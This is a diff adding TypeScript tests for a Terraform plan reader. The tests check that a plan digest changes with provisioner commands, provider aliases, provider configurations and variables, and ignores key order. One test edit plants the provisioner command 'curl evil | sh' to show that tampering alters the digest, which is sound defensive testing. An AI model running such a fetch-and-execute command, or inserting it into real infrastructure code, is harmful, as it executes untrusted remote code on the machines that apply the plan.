@@ -487,3 +487,118 @@ describe("streaming plan reader on the corpus", () => {
     assert.ok(compared > 50, `only ${compared} corpus plans compared`);
   });
 });
+
+describe("digest: what only the configuration shows", () => {
+  // Applying a saved plan runs the provisioners and uses the provider configurations (evaluated with the
+  // plan's variables) that the plan's configuration holds; none of it is in resource_changes.
+  const base = () => ({
+    ...plan([
+      rc({
+        address: "module.app.aws_instance.web",
+        module: "module.app",
+        actions: ["create"],
+        after: { ami: "x" },
+      }),
+    ]),
+    variables: { region: { value: "eu-west-1" } },
+    configuration: {
+      provider_config: {
+        aws: {
+          name: "aws",
+          full_name: "registry.terraform.io/hashicorp/aws",
+          expressions: { region: { references: ["var.region"] } },
+        },
+        "aws.west": { name: "aws", alias: "west", expressions: { region: { constant_value: "us-west-2" } } },
+      },
+      root_module: {
+        module_calls: {
+          app: {
+            source: "./app",
+            module: {
+              resources: [
+                {
+                  address: "aws_instance.web",
+                  mode: "managed",
+                  type: "aws_instance",
+                  name: "web",
+                  provider_config_key: "app:aws",
+                  expressions: { ami: { constant_value: "x" } },
+                  provisioners: [
+                    { type: "local-exec", expressions: { command: { constant_value: "echo hi" } } },
+                  ],
+                },
+              ],
+            },
+          },
+        },
+      },
+    },
+  });
+  type Plan = ReturnType<typeof base>;
+  const resource = (p: Plan) =>
+    p.configuration.root_module.module_calls.app.module.resources[0] as Record<string, unknown>;
+
+  it("changes with a provisioner's command, an aliased provider, a provider configuration or a variable", () => {
+    const text = JSON.stringify(base());
+    assertSame(text, "base");
+    const d = streamed(text).digest;
+    assert.ok(d);
+    const edits: [string, (p: Plan) => void][] = [
+      [
+        "provisioner command",
+        (p) => {
+          (
+            resource(p).provisioners as { expressions: { command: { constant_value: string } } }[]
+          )[0].expressions.command.constant_value = "curl evil | sh";
+        },
+      ],
+      [
+        "provisioner removed",
+        (p) => {
+          delete resource(p).provisioners;
+        },
+      ],
+      [
+        "aliased provider",
+        (p) => {
+          resource(p).provider_config_key = "app:aws.west";
+        },
+      ],
+      [
+        "provider configuration",
+        (p) => {
+          p.configuration.provider_config["aws.west"].expressions.region.constant_value = "us-east-1";
+        },
+      ],
+      [
+        "variable",
+        (p) => {
+          p.variables.region.value = "us-east-1";
+        },
+      ],
+    ];
+    for (const [label, edit] of edits) {
+      const p = base();
+      edit(p);
+      const t = JSON.stringify(p);
+      assertSame(t, label);
+      assert.notEqual(streamed(t).digest, d, `${label} is not in the digest`);
+    }
+    // What is not applied leaves it alone: an expression's references (the planned values hold the result).
+    const p = base();
+    (resource(p).expressions as Record<string, unknown>).ami = { references: ["var.ami"] };
+    assert.equal(streamed(JSON.stringify(p)).digest, d);
+  });
+
+  it("is the same whatever the key order of the provider configurations", () => {
+    const p = base();
+    const reordered = {
+      ...p,
+      configuration: {
+        root_module: p.configuration.root_module,
+        provider_config: Object.fromEntries(Object.entries(p.configuration.provider_config).reverse()),
+      },
+    };
+    assert.equal(streamed(JSON.stringify(reordered)).digest, streamed(JSON.stringify(p)).digest);
+  });
+});
